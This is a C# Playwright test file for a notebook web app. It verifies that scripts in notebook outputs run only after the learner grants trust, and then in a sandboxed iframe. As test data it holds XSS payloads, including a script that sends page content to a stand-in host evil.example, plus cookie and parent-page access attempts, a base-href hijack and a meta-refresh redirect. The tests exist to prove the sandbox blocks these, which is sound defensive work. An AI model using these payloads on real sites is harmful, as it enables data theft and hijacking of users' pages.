using System.Text.Json.Nodes;
using Microsoft.Playwright;

namespace NeuralNotebook.App.Tests.Page;

/// <summary>The scripts of an output run only where the learner trusts the notebook, and then in a frame that
/// reaches nothing outside.</summary>
[Collection("browser")]
public sealed class ScriptTests(LearnersBrowser browser)
{
    private const string Harmless =
        "<p class=\"said\">not yet</p><script>document.querySelector('.said').textContent = 'it ran ' + (1 + 1)</script>";

    // What a script in its frame tries; it writes down what it reached.
    private const string Escape = """
        <p class="said"></p><script>
        const reached = [];
        const attempt = (name, act) => { try { if (act() !== false) reached.push(name); } catch { } };
        attempt('the page', () => parent.document.body.append('hit'));
        attempt('what the page keeps', () => localStorage.setItem('hit', '1'));
        attempt('cookies', () => document.cookie);
        attempt('another window', () => window.open('https://evil.example/') !== null);
        attempt('the address', () => { top.location = 'https://evil.example/'; return false; });
        attempt('a frame element', () => frameElement !== null);
        document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe><img src="https://evil.example/a.png">'
            + '<form action="https://evil.example/" target="_top"><button>x</button></form>');
        attempt('a form', () => { document.querySelector('form').requestSubmit(); return false; });
        attempt('eval', () => eval('1'));
        Promise.allSettled([fetch('https://evil.example/'), fetch('/api/kernels'), import('https://evil.example/a.js')]).then(all => {
            const answered = all.filter(each => each.status === 'fulfilled').map(() => 'the network');
            document.querySelector('.said').textContent = ['done', ...reached, ...answered].join(', ');
        });
        </script>
        """;

    private static readonly string[] Attacks =
    [
        Harmless,
        Escape,
        "<img src=\"x\" alt=\"\" onerror=\"parent.hit = 1; top.hit = 1\">",
        "<svg><script>window.hit = 2; parent.hit = 2</script></svg><svg onload=\"parent.hit = 3\"></svg>",
        "<script>location = 'https://evil.example/?' + document.body.innerHTML</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><script>1</script>",
        "<a href=\"javascript:parent.hit = 4\" onclick=\"parent.hit = 5\">x</a>",
        "<iframe srcdoc=\"<script>parent.parent.hit = 6</script>\"></iframe><script>1</script>",
        "<style>body{display:none}html{position:fixed;inset:0;height:90000px}</style>"
            + "<script>parent.postMessage({ height: 90000 }, '*')</script>",
        "<base href=\"https://evil.example/\"><script src=\"a.js\"></script>",
    ];

    [Theory]
    [InlineData(1280, false)]
    [InlineData(390, true)]
    public async Task A_script_runs_only_when_the_notebook_is_trusted_and_then_reaches_nothing_outside(int width, bool dark)
    {
        await using var notebook = await WriteAsync($"zz-scripts-{width}", Attacks);
        await using var learner = await browser.OpenAsync(width: width, dark: dark);
        var asked = new List<string>();
        // What a policy stops never comes as far as this.
        await learner.Page.RouteAsync("https://evil.example/**", route =>
        {
            asked.Add(route.Request.Url);
            return route.AbortAsync();
        });
        await learner.OpenAsync(notebook.Name);
        await learner.Page.WaitForTimeoutAsync(300);
        Assert.Equal(0, await learner.Page.Locator(".cells iframe, .cells script").CountAsync());
        Assert.Equal(Attacks.Length, await learner.Page.Locator(".trust button >> text=Trust this notebook").CountAsync());
        Assert.Equal("not yet", await learner.Page.TextContentAsync("#c0 .html p:not(.trust)"));
        await Looks.CheckAsync(learner.Page, "scripts");
        await learner.PictureAsync(FormattableString.Invariant($"scripts-before-{width}"));

        await learner.Page.Locator("#c0 .trust button").ClickAsync();
        Assert.Equal("it ran 2", await SaidAsync(learner, 0));
        Assert.Equal("done", await SaidAsync(learner, 1));
        await learner.Page.WaitForTimeoutAsync(500);
        Assert.Equal(Attacks.Length, await learner.Page.Locator(".cells iframe[sandbox='allow-scripts'][title]").CountAsync());
        Assert.Equal(0, await learner.Page.Locator(".trust").CountAsync());
        Assert.False(await learner.Page.EvaluateAsync<bool>("() => 'hit' in window"));
        Assert.Equal(2000, await learner.Page.EvaluateAsync<int>(
            "() => Math.max(...[...document.querySelectorAll('.cells iframe')].map(frame => frame.offsetHeight))"));
        Assert.True(await learner.Page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= innerWidth"));
        await learner.PictureAsync(FormattableString.Invariant($"scripts-after-{width}"));
        Assert.Empty(asked);
        Assert.StartsWith($"{learner.Address}chapters/", learner.Page.Url, StringComparison.Ordinal);
        Assert.Single(learner.Context.Pages);
    }

    [Fact]
    public async Task Trust_is_remembered_for_the_notebook_and_what_it_shows_and_is_not_inherited()
    {
        await using var learner = await browser.OpenAsync();
        await using (var notebook = await WriteAsync("zz-trusted", [Harmless]))
        {
            await learner.OpenAsync(notebook.Name);
            await learner.Page.ClickAsync("#c0 .trust button");
            Assert.Equal("it ran 2", await SaidAsync(learner, 0));
            await learner.OpenAsync(notebook.Name);
            Assert.Equal("it ran 2", await SaidAsync(learner, 0));
        }

        // A foreign notebook that lies in its place, and the trusted output in another notebook.
        await using (var foreign = await WriteAsync("zz-trusted", [Harmless + " "]))
        {
            await learner.OpenAsync(foreign.Name);
            await learner.Page.WaitForTimeoutAsync(300);
            Assert.Equal(1, await learner.Page.Locator("#c0 .trust").CountAsync());
        }

        await using var other = await WriteAsync("zz-other", [Harmless]);
        await learner.OpenAsync(other.Name);
        await learner.Page.WaitForTimeoutAsync(300);
        Assert.Equal(1, await learner.Page.Locator("#c0 .trust").CountAsync());
        Assert.Equal(0, await learner.Page.Locator(".cells iframe").CountAsync());
    }

    [Fact]
    public async Task In_a_trusted_notebook_the_scripts_of_the_learners_own_runs_run()
    {
        await using var notebook = await WriteAsync("zz-own", [Harmless]);
        await using var learner = await browser.OpenAsync();
        await learner.OpenAsync(notebook.Name);
        string Code(string word) =>
            $"HTML(\"<p class='said'></p><script>document.querySelector('.said').textContent = '{word}'</script>\")";
        await learner.RunAsync("c0", Code("first"));
        Assert.Equal(1, await learner.Page.Locator("#c0 .trust").CountAsync());
        await learner.Page.ClickAsync("#c0 .trust button");
        Assert.Equal("first", await SaidAsync(learner, 0));
        await learner.RunAsync("c0", Code("second"));
        await learner.Page.Locator("#c0 iframe").WaitForAsync();
        Assert.Equal("second", await SaidAsync(learner, 0));
        Assert.Empty(learner.Complaints);
    }

    private static async Task<string> SaidAsync(Learner learner, int cell)
    {
        var said = learner.Page.FrameLocator($"#c{cell} iframe").Locator(".said");
        await Assertions.Expect(said).Not.ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^(not yet)?$"));
        return await said.TextContentAsync() ?? "";
    }

    private async Task<ForeignNotebook> WriteAsync(string name, string[] outputs)
    {
        var cells = new JsonArray(Cell("markdown", "head", "# Foreign"));
        for (int i = 0; i < outputs.Length; i++)
        {
            var data = new JsonObject { ["text/html"] = outputs[i], ["text/plain"] = "x" };
            var output = new JsonObject { ["output_type"] = "display_data", ["metadata"] = new JsonObject(), ["data"] = data };
            var code = Cell("code", $"c{i}", "1");
            (code["execution_count"], code["outputs"]) = (1, new JsonArray(output));
            cells.Add(code);
        }

        string file = Path.Combine(browser.Course.Folder, name + ".ipynb");
        var notebook = new JsonObject { ["cells"] = cells, ["metadata"] = new JsonObject(), ["nbformat"] = 4, ["nbformat_minor"] = 5 };
        await File.WriteAllTextAsync(file, notebook.ToJsonString(), TestContext.Current.CancellationToken);
        return new ForeignNotebook(name, file);
    }

    private static JsonObject Cell(string kind, string id, string source) =>
        new() { ["cell_type"] = kind, ["id"] = id, ["metadata"] = new JsonObject(), ["source"] = source };

    private sealed record ForeignNotebook(string Name, string File) : IAsyncDisposable
    {
        public ValueTask DisposeAsync()
        {
            System.IO.File.Delete(File);
            return ValueTask.CompletedTask;
        }
    }
}
